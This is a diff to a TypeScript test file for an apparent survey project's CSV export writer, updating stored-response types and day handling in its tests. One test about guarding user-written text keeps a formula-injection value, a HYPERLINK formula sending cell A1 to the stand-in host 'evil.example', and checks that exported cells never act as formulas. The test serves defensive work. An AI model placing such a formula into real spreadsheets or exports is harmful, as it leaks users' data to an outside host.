@@ -1,9 +1,11 @@
-import { checkProgram } from '@milepost/protocol';
+import { canonical } from '@milepost/engine';
+import { checkProgram, type ResponseState } from '@milepost/protocol';
 import { buildAnswer, buildProgram, buildResponse, buildSurvey } from '@milepost/testkit';
 import { parse } from 'csv-parse/sync';
 import { expect, test } from 'vitest';
+import { dayNumber } from '../intake/local-day.ts';
 import { type KnownProgram, knownSurvey, localesOf } from '../program/known.ts';
-import type { KeptResponse } from '../store/store.ts';
+import type { StoredText } from '../store/store.ts';
 import { createCsvWriter } from './csv.ts';
 
 /** A program whose survey asked for NPS in its first version and for satisfaction, in three parts, in its second. */
@@ -41,11 +43,15 @@ function buildKnown(): KnownProgram {
   };
 }
 
-function written(overrides: Partial<KeptResponse>) {
+function written({
+  state = buildResponse({ survey: 's' }),
+  ...overrides
+}: Partial<StoredText> & { state?: ResponseState }) {
   const csv = createCsvWriter(buildKnown());
-  const kept: KeptResponse = {
+  const kept: StoredText = {
     bucket: 0,
-    state: buildResponse({ survey: 's' }),
+    day: dayNumber('2026-11-22'),
+    text: canonical(state),
     sent: null,
     received: Date.parse('2026-11-22T07:00:03Z'),
     excluded: [],
@@ -71,8 +77,9 @@ test('the columns are those of every response, then the segments, then every que
   );
 });
 
-test('a row has its day in the zone of the project, by the corrected clock, and its answers in their columns', () => {
+test('a row has the day that it counts on, its time by the corrected clock, and its answers in their columns', () => {
   const { row } = written({
+    day: dayNumber('2026-11-23'),
     sent: Date.parse('2020-01-01T00:00:10Z'),
     state: {
       ...buildResponse({
@@ -127,7 +134,7 @@ test('what a person wrote is guarded in every column, and whole in the last one'
     'segment:vintage': '-3',
     's.why': `'=HYPERLINK("https://evil.example?"&A1);'=1+1\n'@x,"`,
   });
-  const line = JSON.parse(row?.['response'] ?? '') as KeptResponse['state'];
+  const line = JSON.parse(row?.['response'] ?? '') as ResponseState;
   expect(line.answers?.[0]?.value).toBe(hostile);
   expect(row?.['response']).not.toMatch(/[;\t\r\n]/);
   // Read with another delimiter, as a spreadsheet elsewhere in Europe does, no cell is a formula either.
